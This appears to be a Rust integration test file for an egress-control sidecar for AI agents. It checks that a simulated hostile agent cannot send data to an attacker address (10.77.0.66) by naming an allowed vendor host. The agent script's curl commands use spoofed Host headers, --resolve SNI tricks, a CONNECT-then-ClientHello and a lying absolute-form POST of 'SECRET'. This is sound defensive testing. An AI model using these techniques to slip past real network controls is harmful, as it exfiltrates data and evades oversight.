//! A hostile agent picks its own destination and names an allowed one: the destination comes
//! from the decision, never from the agent (docs/architecture.md, "Destination binding").
//!
//! In a fresh network namespace: the real upstream for api.openai.com / api.acme-vendor.com at
//! 10.77.0.2:443 (the names point there through a hosts file that the sidecar and the clients
//! share in private mount namespaces), and an attacker at 10.77.0.66 listening on 443, 8081 and
//! 8443 that counts every byte and connection it receives. The agent (a shell script of curl
//! calls) tries:
//! - plain HTTP with `Host: api.acme-vendor.com` to 10.77.0.66:8081 and :443;
//! - TLS with the SNI api.acme-vendor.com to 10.77.0.66:8443 and :443 (`curl -k --resolve`),
//!   before and after a handshake in which it rejects the Firma certificate;
//! - through `http_proxy` mode: `CONNECT 10.77.0.66:443` then a TLS ClientHello for the
//!   allowed name, and an absolute-form `POST http://10.77.0.66:8081/upload` with a lying Host.
//!
//! Each test asserts that the attacker received 0 bytes (and no connection), that each attempt
//! is in the audit (`DestinationMismatch` with the decided name, its addresses and the original
//! destination; the CONNECT to a bare IP `UnclassifiedIntent`, as no rule names it), and that
//! the legitimate calls of the same run reached the upstream. Runs under `firma run --user
//! nobody` with the default configuration, under a `firma sidecar` transparent attach (without
//! and with the opt-in MITM fallback), and in `http_proxy` mode; plus issue 19's fallback case:
//! a local client rejecting the CA changes nothing for another local client from the same
//! address. Needs root + BPF (SKIP otherwise).

use firma_testing::client::PROXY_VARS;
use firma_testing::config::Mode;
use firma_testing::confine::Confine;
use firma_testing::kernel::{DST_V4, TestCgroup, TestPins, in_fresh_netns, sh};
use firma_testing::sidecar::{Deployment, Settings, Sidecar};
use firma_testing::upstream::Upstream;
use firma_testing::{assert_eventually, firma, firma_bin, free_dual_port, text, unique};
use serde_json::Value;
use std::collections::BTreeMap;
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

/// The attacker's address (on `lo` of the test's namespace; no name points at it).
const ATTACKER: &str = "10.77.0.66";
const VENDOR: &str = "api.acme-vendor.com";
const AGENT: &str = "tenant-acme";

/// Servers at [`ATTACKER`] that count every connection and byte they get.
struct Attacker {
    conns: Arc<AtomicUsize>,
    bytes: Arc<AtomicUsize>,
}

impl Attacker {
    fn start() -> Self {
        sh(&["ip", "addr", "add", &format!("{ATTACKER}/32"), "dev", "lo"]);
        let (conns, bytes) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
        for port in [443u16, 8081, 8443] {
            let l = std::net::TcpListener::bind((ATTACKER, port)).expect("attacker listener");
            let (conns, bytes) = (conns.clone(), bytes.clone());
            std::thread::spawn(move || {
                for s in l.incoming().flatten() {
                    conns.fetch_add(1, Ordering::SeqCst);
                    let bytes = bytes.clone();
                    std::thread::spawn(move || {
                        let mut s = s;
                        let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
                        let mut buf = [0u8; 4096];
                        while let Ok(n) = s.read(&mut buf) {
                            if n == 0 {
                                break;
                            }
                            bytes.fetch_add(n, Ordering::SeqCst);
                        }
                    });
                }
            });
        }
        Self { conns, bytes }
    }

    fn assert_untouched(&self, log: &str) {
        assert_eq!(
            (
                self.conns.load(Ordering::SeqCst),
                self.bytes.load(Ordering::SeqCst)
            ),
            (0, 0),
            "the attacker's servers were reached (connections, bytes)\n{log}"
        );
    }
}

/// The test's world: attacker, real upstream at `DST_V4:443`, hosts file, a 0755 directory
/// (readable by a `--user nobody` child).
struct World {
    attacker: Attacker,
    up: Upstream,
    hosts: PathBuf,
    dir: tempfile::TempDir,
}

impl World {
    fn new() -> Self {
        let attacker = Attacker::start();
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let up = Upstream::start_at(
            dir.path(),
            &["api.openai.com", VENDOR],
            format!("{DST_V4}:443").parse().unwrap(),
        );
        let hosts = dir.path().join("hosts");
        std::fs::write(
            &hosts,
            format!("127.0.0.1 localhost\n::1 localhost\n{DST_V4} api.openai.com {VENDOR}\n"),
        )
        .unwrap();
        Self {
            attacker,
            up,
            hosts,
            dir,
        }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }
}

/// The agent: each attempt prints `CASE <name> <http status> <curl exit>`. `reject` is a CA
/// file that did not sign the Firma leaf (the client rejects the certificate with it).
fn agent_script(reject: &Path, extra: &str) -> String {
    let reject = reject.display();
    format!(
        r#"
c() {{ n=$1; shift; code=$(curl -sS --max-time 10 -o /dev/null -w '%{{http_code}}' "$@" 2>/dev/null); echo "CASE $n $code $?"; }}
c legit_openai https://api.openai.com/v1/models
c legit_vendor -d ok https://{VENDOR}/v1/send
c plain_8081 -H 'Host: {VENDOR}' -d SECRET http://{ATTACKER}:8081/upload
c plain_443 -H 'Host: {VENDOR}' -d SECRET http://{ATTACKER}:443/upload
c tls_8443 -k --resolve {VENDOR}:8443:{ATTACKER} -d SECRET https://{VENDOR}:8443/upload
c tls_443_before -k --resolve {VENDOR}:443:{ATTACKER} -d SECRET https://{VENDOR}/upload
c rejected --cacert '{reject}' --resolve {VENDOR}:443:{ATTACKER} -d SECRET https://{VENDOR}/upload
c tls_443_after -k --resolve {VENDOR}:443:{ATTACKER} -d SECRET https://{VENDOR}/upload
c legit_vendor_after -d ok https://{VENDOR}/v1/send
{extra}
"#
    )
}

/// `CASE name status exit` lines: name -> (status, exit).
fn cases(stdout: &str) -> BTreeMap<String, (u16, i32)> {
    stdout
        .lines()
        .filter_map(|l| {
            let mut w = l.strip_prefix("CASE ")?.split_whitespace();
            let name = w.next()?.to_string();
            let status = w.next()?.parse().ok()?;
            let exit = w.next()?.parse().ok()?;
            Some((name, (status, exit)))
        })
        .collect()
}

fn show(out: &Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
        out.status.code(),
        text(&out.stdout),
        text(&out.stderr)
    )
}

/// Decision events of `file`.
fn decisions(file: &Path) -> Vec<Value> {
    std::fs::read_to_string(file)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|e| e["event"] == "decision")
        .collect()
}

/// The `DestinationMismatch` denial for a connection to `original_dst`: names the decided
/// host, its address (the real one) and the original destination.
fn mismatch_for<'a>(events: &'a [Value], original_dst: &str) -> Vec<&'a Value> {
    events
        .iter()
        .filter(|e| {
            e["decision"]["outcome"] == "DENY"
                && e["decision"]["reason"] == "DestinationMismatch"
                && e["conn"]["original_dst"] == original_dst
        })
        .collect()
}

fn check_mismatch(e: &Value, original_dst: &str) {
    assert_eq!(e["envelope"]["intent"]["resource"]["host"], VENDOR, "{e}");
    let dest = &e["envelope"]["intent"]["destination"];
    assert_eq!(dest["name"], VENDOR, "{e}");
    assert_eq!(dest["original_dst"], original_dst, "{e}");
    assert!(
        dest["addresses"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x == DST_V4)),
        "the name's own address is recorded: {e}"
    );
    assert_eq!(e["connector"]["credential_injected"], false);
}

/// Everything the agent script tried, checked against its output, the attacker, the upstream
/// and the audit. `fallback`: the opt-in MITM fallback is on for the vendor host, so after the
/// rejected handshake the attempt is a blind tunnel, bound like everything else.
fn check_run(w: &World, out: &Output, audit: &Path, fallback: bool, log: &str) {
    let got = cases(&text(&out.stdout));
    let status = |n: &str| got.get(n).map(|c| c.0).unwrap_or(999);
    for legit in ["legit_openai", "legit_vendor"] {
        assert_eq!(status(legit), 200, "{legit}: {}\n{log}", show(out));
    }
    for attack in ["plain_8081", "plain_443", "tls_8443", "tls_443_before"] {
        assert_eq!(status(attack), 403, "{attack}: {}\n{log}", show(out));
    }
    assert_eq!(status("rejected"), 0, "TLS must fail: {}", show(out));
    let seen_before_after = w.up.count();
    if fallback {
        // Blind tunnel after the rejection: a tunnel-level denial closes the connection.
        assert_eq!(status("tls_443_after"), 0, "{}\n{log}", show(out));
    } else {
        assert_eq!(status("tls_443_after"), 403, "{}\n{log}", show(out));
        assert_eq!(status("legit_vendor_after"), 200, "{}\n{log}", show(out));
    }
    w.attacker.assert_untouched(log);
    // Upstream: the legitimate calls only, never a SECRET.
    assert!(
        !w.up.raw_contains("SECRET"),
        "an attack reached the upstream"
    );
    assert!(
        seen_before_after >= 2,
        "legitimate calls reached the upstream"
    );

    let events = assert_eventually(Duration::from_secs(10), "attempts audited", || {
        let ev = decisions(audit);
        let want = 5;
        let n = ev
            .iter()
            .filter(|e| e["decision"]["reason"] == "DestinationMismatch")
            .count();
        (n >= want).then_some(ev)
    });
    let plain = mismatch_for(&events, &format!("{ATTACKER}:8081"));
    assert_eq!(plain.len(), 1, "{plain:?}");
    check_mismatch(plain[0], &format!("{ATTACKER}:8081"));
    assert!(
        plain[0]["decision"]["detail"]
            .as_str()
            .is_some_and(|d| d.contains("port 8081")),
        "{}",
        plain[0]
    );
    let tls = mismatch_for(&events, &format!("{ATTACKER}:8443"));
    assert_eq!(tls.len(), 1, "{tls:?}");
    check_mismatch(tls[0], &format!("{ATTACKER}:8443"));
    // plain_443, tls_443_before, tls_443_after: the address is not the name's.
    let on_443 = mismatch_for(&events, &format!("{ATTACKER}:443"));
    assert_eq!(on_443.len(), 3, "{on_443:#?}");
    for e in &on_443 {
        check_mismatch(e, &format!("{ATTACKER}:443"));
        assert!(
            e["decision"]["detail"]
                .as_str()
                .is_some_and(|d| d.contains("not an address of")),
            "{e}"
        );
    }
    // The last one after the rejection: a request (MITM'd) without fallback, a tunnel with it.
    let last = on_443.last().unwrap();
    assert_eq!(
        last["envelope"]["intent"]["method"].is_null(),
        fallback,
        "{last}"
    );
    // The rejected handshake: audited, the client's own connection closed.
    let rejected: Vec<_> = events
        .iter()
        .filter(|e| {
            e["decision"]["reason"] == "MalformedRequest"
                && e["conn"]["original_dst"] == format!("{ATTACKER}:443")
        })
        .collect();
    assert_eq!(rejected.len(), 1, "{rejected:#?}");
    let detail = rejected[0]["decision"]["detail"].as_str().unwrap_or("");
    if fallback {
        assert!(detail.contains("falling back"), "{detail}");
    } else {
        assert!(detail.contains("fallback is off"), "{detail}");
    }
    // The legitimate calls: allowed, to the names' real address.
    assert!(events.iter().any(|e| e["decision"]["outcome"] == "ALLOW"
        && e["envelope"]["intent"]["resource"]["host"] == "api.openai.com"
        && e["conn"]["original_dst"] == format!("{DST_V4}:443")));
    assert!(events.iter().any(|e| e["decision"]["outcome"] == "ALLOW"
        && e["envelope"]["intent"]["resource"]["host"] == VENDOR
        && e["conn"]["original_dst"] == format!("{DST_V4}:443")));
}

/// `--allow-host` with a port: `api.example.org:8443` is allowed, another port of it is not.
const PORTS_SCRIPT: &str = r#"
c port_allowed https://api.example.org:8443/x
c port_other -k --resolve api.example.org:9443:10.77.0.2 https://api.example.org:9443/x
"#;

/// (a) `firma run --user nobody` with the default configuration (plus one `--allow-host
/// HOST:PORT` for the port cases).
#[test]
fn firma_run_binds_the_destination_to_the_decided_name() {
    if !in_fresh_netns("firma_run_binds_the_destination_to_the_decided_name") {
        return;
    }
    let w = World::new();
    let other_dir = w.path("other");
    std::fs::create_dir_all(&other_dir).unwrap();
    let other = Upstream::start_at(
        &other_dir,
        &["api.example.org"],
        format!("{DST_V4}:8443").parse().unwrap(),
    );
    let mut hosts = std::fs::read_to_string(&w.hosts).unwrap();
    hosts.push_str(&format!("{DST_V4} api.example.org\n"));
    std::fs::write(&w.hosts, hosts).unwrap();
    let audit = w.path("audit.jsonl");
    let out = Confine::hosts(&w.hosts)
        .command(firma_bin())
        .arg("run")
        .arg("--state-dir")
        .arg(w.path("state"))
        .arg("--upstream-ca")
        .arg(&w.up.ca_path)
        .arg("--upstream-ca")
        .arg(&other.ca_path)
        .arg("--audit")
        .arg(&audit)
        .args(["--allow-host", "api.example.org:8443"])
        .args(["--user", "nobody", "--", "sh", "-c"])
        .arg(agent_script(&w.up.ca_path, PORTS_SCRIPT))
        .env("NO_COLOR", "1")
        .env_remove("RUST_LOG")
        .env_remove("SUDO_UID")
        .output()
        .expect("firma run");
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    check_run(&w, &out, &audit, false, "");
    // The summary names the reason.
    assert!(
        text(&out.stderr).contains("DENY  POST api.acme-vendor.com/upload [communication.external.send] DestinationMismatch"),
        "{}",
        show(&out)
    );
    assert_eq!(
        w.up.count(),
        3,
        "openai, vendor, vendor after the rejection"
    );
    // The port named with --allow-host works, another port of the same name is denied.
    let got = cases(&text(&out.stdout));
    assert_eq!(
        got.get("port_allowed").map(|c| c.0),
        Some(200),
        "{}",
        show(&out)
    );
    assert_eq!(
        got.get("port_other").map(|c| c.0),
        Some(403),
        "{}",
        show(&out)
    );
    assert_eq!(other.count(), 1);
    let events = decisions(&audit);
    assert!(
        events
            .iter()
            .any(|e| e["decision"]["reason"] == "DestinationMismatch"
                && e["conn"]["original_dst"] == format!("{DST_V4}:9443")
                && e["envelope"]["intent"]["destination"]["allowed_ports"]
                    == serde_json::json!([8443])),
        "{events:#?}"
    );
}

/// A transparent `firma sidecar` with the hosts file, and a tagged cgroup attached.
struct Transparent {
    d: Deployment,
    sc: Sidecar,
    cg: TestCgroup,
    _pins: TestPins,
}

impl Transparent {
    fn start(w: &World, fallback: bool) -> Self {
        let pins = TestPins::new();
        let cg = TestCgroup::top(&unique("firma-hostile")).expect("test cgroup");
        let mut settings = Settings {
            upstream_hosts: Vec::new(),
            ..Settings::default()
        };
        // As `firma run` ships it: no strict host; the fallback only when opted in.
        settings.strict_hosts = Vec::new();
        if fallback {
            settings.fallback_hosts = vec![VENDOR.into()];
        }
        let d = Deployment::new(Some(&w.up), &settings);
        settings.mode = Mode::Transparent {
            port: free_dual_port(),
            pin_dir: pins.dir.clone(),
            control_socket: d.root().join("run/sidecar.sock"),
            allow_ephemeral_pins: None,
        };
        d.write(Some(&w.up), &settings);
        let sc = d.start_with_hosts(&[], &w.hosts);
        let out = firma(&[
            "sidecar",
            "-c",
            d.config.to_str().unwrap(),
            "attach",
            "--cgroup",
            &cg.rel_path(),
            "--agent-id",
            AGENT,
            "--session-id",
            "s1",
        ]);
        assert!(out.status.success(), "attach: {}", text(&out.stderr));
        Self {
            d,
            sc,
            cg,
            _pins: pins,
        }
    }

    /// The agent script in the tagged cgroup, with the hosts file, trusting the Firma CA.
    fn run_agent(&self, w: &World) -> Output {
        let mut cmd = Confine::hosts(&w.hosts).cgroup(&self.cg.dir).command("sh");
        cmd.arg("-c")
            .arg(agent_script(&w.up.ca_path, ""))
            .env("SSL_CERT_FILE", self.d.ca_cert())
            .env("CURL_CA_BUNDLE", self.d.ca_cert());
        for v in PROXY_VARS.iter().chain(&["NO_PROXY", "no_proxy"]) {
            cmd.env_remove(v);
        }
        cmd.output().expect("agent")
    }
}

/// (b) `firma sidecar` transparent mode + `firma sidecar attach`, no fallback (the default).
#[test]
fn transparent_sidecar_binds_the_destination_to_the_decided_name() {
    if !in_fresh_netns("transparent_sidecar_binds_the_destination_to_the_decided_name") {
        return;
    }
    let w = World::new();
    let t = Transparent::start(&w, false);
    let out = t.run_agent(&w);
    check_run(&w, &out, &t.d.audit_path, false, &t.sc.log_text());
    assert_eq!(w.up.count(), 3);
}

/// (b') The same with the opt-in fallback for the vendor host: after the rejected handshake the
/// client's connections to it are blind tunnels, and a tunnel is bound like a request: the one
/// to the attacker's address is denied and closed, the one to the real address works.
#[test]
fn opt_in_fallback_tunnels_are_bound_too() {
    if !in_fresh_netns("opt_in_fallback_tunnels_are_bound_too") {
        return;
    }
    let w = World::new();
    let t = Transparent::start(&w, true);
    let out = t.run_agent(&w);
    check_run(&w, &out, &t.d.audit_path, true, &t.sc.log_text());
    // The last legitimate call is tunnelled blind to the upstream (the client then sees the
    // upstream's own certificate, which it does not trust: the TLS fails, but the tunnel to the
    // name's real address was allowed and opened).
    let events = decisions(&t.d.audit_path);
    assert!(
        events.iter().any(|e| e["decision"]["outcome"] == "ALLOW"
            && e["envelope"]["intent"]["method"].is_null()
            && e["conn"]["original_dst"] == format!("{DST_V4}:443")),
        "the fallback tunnel to the real address: {events:#?}"
    );
}

/// A `http_proxy` sidecar seeing the hosts file.
fn proxy_sidecar(w: &World) -> (Deployment, Sidecar) {
    let settings = Settings {
        extra: "[[sidecar.credentials]]\nhost = \"api.openai.com\"\nmode = \"basic\"\nheader = \"Authorization\"\nprefix = \"Bearer \"\nvalue_from_env = \"FIRMA_TEST_KEY\"\n".into(),
        upstream_hosts: Vec::new(),
        ..Settings::default()
    };
    let d = Deployment::new(Some(&w.up), &settings);
    let sc = d.start_with_hosts(&[("FIRMA_TEST_KEY", "sk-canary-hostile")], &w.hosts);
    (d, sc)
}

/// `curl --proxy` with `args`: (status, curl exit).
fn proxy_curl(proxy: &str, args: &[&str], url: &str) -> (u16, Option<i32>) {
    let out = Command::new("curl")
        .args([
            "-sS",
            "--max-time",
            "10",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ])
        .args(["--noproxy", "", "--proxy", proxy])
        .args(args)
        .arg(url)
        .env_remove("HTTPS_PROXY")
        .env_remove("https_proxy")
        .env_remove("HTTP_PROXY")
        .env_remove("http_proxy")
        .env_remove("ALL_PROXY")
        .output()
        .expect("curl");
    (
        text(&out.stdout).trim().parse().unwrap_or(0),
        out.status.code(),
    )
}

/// `http_proxy` mode: `CONNECT 10.77.0.66:443` followed by a ClientHello for the allowed name
/// never reaches 10.77.0.66 (refused before the 200: no rule names the address), and an
/// absolute-form request to 10.77.0.66:8081 with `Host: api.acme-vendor.com` is a request with
/// two destinations (`DestinationMismatch`). The legitimate calls still work.
#[test]
fn http_proxy_binds_the_destination_to_the_decided_name() {
    if !in_fresh_netns("http_proxy_binds_the_destination_to_the_decided_name") {
        return;
    }
    let w = World::new();
    let (d, sc) = proxy_sidecar(&w);
    let proxy = sc.proxy_url();
    let ca = d.ca_cert();
    let ca_s = ca.to_str().unwrap();
    let ok = proxy_curl(
        &proxy,
        &["--cacert", ca_s, "-d", "ok"],
        &format!("https://{VENDOR}/v1/send"),
    );
    assert_eq!(ok.0, 200, "{ok:?}\n{}", sc.log_text());

    // CONNECT to the attacker's address, then TLS for the allowed name (Python: the CONNECT
    // target and the SNI are chosen separately).
    let script = format!(
        r#"
import socket, ssl
s = socket.create_connection(("127.0.0.1", {port}), timeout=10)
s.sendall(b"CONNECT {ATTACKER}:443 HTTP/1.1\r\nHost: {ATTACKER}:443\r\n\r\n")
head = s.recv(4096).split(b"\r\n")[0].decode()
print("CONNECT", head)
if " 200 " in head:
    t = ssl.create_default_context(cafile={ca:?}).wrap_socket(s, server_hostname="{VENDOR}")
    t.sendall(b"POST /upload HTTP/1.1\r\nHost: {VENDOR}\r\nContent-Length: 6\r\n\r\nSECRET")
    print("TLS", t.recv(4096).split(b"\r\n")[0].decode())
"#,
        port = sc.addr.port(),
        ca = ca_s,
    );
    let out = Command::new("python3")
        .args(["-c", &script])
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("CONNECT HTTP/1.1 403"),
        "{stdout}{}\n{}",
        text(&out.stderr),
        sc.log_text()
    );

    // Absolute-form with a lying Host.
    let lying = proxy_curl(
        &proxy,
        &["-H", &format!("Host: {VENDOR}"), "-d", "SECRET"],
        &format!("http://{ATTACKER}:8081/upload"),
    );
    assert_eq!(lying.0, 403, "{lying:?}\n{}", sc.log_text());
    // The same over TLS to an allowed name still works afterwards.
    let ok = proxy_curl(
        &proxy,
        &["--cacert", ca_s],
        "https://api.openai.com/v1/models",
    );
    assert_eq!(ok.0, 200, "{ok:?}");

    w.attacker.assert_untouched(&sc.log_text());
    assert!(!w.up.raw_contains("SECRET"));
    assert_eq!(w.up.count(), 2);
    let events = assert_eventually(Duration::from_secs(5), "attempts audited", || {
        let ev = decisions(&d.audit_path);
        let connect = ev.iter().any(|e| {
            e["decision"]["outcome"] == "DENY"
                && e["envelope"]["intent"]["resource"]["host"] == ATTACKER
                && e["envelope"]["intent"]["method"].is_null()
        });
        let lying = ev
            .iter()
            .any(|e| e["decision"]["reason"] == "DestinationMismatch");
        (connect && lying).then_some(ev)
    });
    let lying = events
        .iter()
        .find(|e| e["decision"]["reason"] == "DestinationMismatch")
        .unwrap();
    let detail = lying["decision"]["detail"].as_str().unwrap_or("");
    assert!(
        detail.contains(VENDOR) && detail.contains(&format!("{ATTACKER}:8081")),
        "both destinations named: {lying}"
    );
    let connect = events
        .iter()
        .find(|e| e["envelope"]["intent"]["resource"]["host"] == ATTACKER)
        .unwrap();
    assert_eq!(
        connect["decision"]["reason"], "UnclassifiedIntent",
        "{connect}"
    );
}

/// Issue 19: in `http_proxy` mode every local client reaches the sidecar from 127.0.0.1. One of
/// them rejecting the Firma CA (three times) must not switch the host off for the others: with
/// the default configuration (no `fallback_hosts`) another client from the same address is
/// still intercepted (the credential injected, the request decided on its path) and allowed.
#[test]
fn a_local_client_rejecting_the_ca_changes_nothing_for_other_local_clients() {
    if !in_fresh_netns("a_local_client_rejecting_the_ca_changes_nothing_for_other_local_clients") {
        return;
    }
    let w = World::new();
    let (d, sc) = proxy_sidecar(&w);
    let proxy = sc.proxy_url();
    let reject = w.up.ca_path.to_str().unwrap().to_string();
    for _ in 0..3 {
        let (status, exit) = proxy_curl(
            &proxy,
            &["--cacert", &reject],
            "https://api.openai.com/v1/models",
        );
        assert_eq!(status, 0, "TLS must fail (exit {exit:?})");
    }
    let rejected = assert_eventually(Duration::from_secs(5), "rejections audited", || {
        let ev: Vec<Value> = decisions(&d.audit_path)
            .into_iter()
            .filter(|e| {
                e["decision"]["detail"]
                    .as_str()
                    .is_some_and(|s| s.contains("rejected the certificate"))
            })
            .collect();
        (ev.len() == 3).then_some(ev)
    });
    assert!(rejected.iter().all(|e| {
        e["conn"]["peer"]
            .as_str()
            .is_some_and(|p| p.starts_with("127.0.0.1:"))
    }));
    // Another local client, same address: intercepted and allowed.
    let ca = d.ca_cert();
    let (status, _) = proxy_curl(
        &proxy,
        &["--cacert", ca.to_str().unwrap(), "--interface", "127.0.0.1"],
        "https://api.openai.com/v1/models",
    );
    assert_eq!(status, 200, "{}", sc.log_text());
    let seen = w.up.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(
        seen[0].headers["authorization"], "Bearer sk-canary-hostile",
        "intercepted: Firma's credential injected"
    );
    assert_eventually(Duration::from_secs(5), "request-level allow", || {
        decisions(&d.audit_path).iter().any(|e| {
            e["decision"]["outcome"] == "ALLOW"
                && e["envelope"]["intent"]["resource"]["path"] == "/v1/models"
                && e["conn"]["peer"]
                    .as_str()
                    .is_some_and(|p| p.starts_with("127.0.0.1:"))
        })
    });
    assert!(!d.audit_text().contains("falling back"));
}
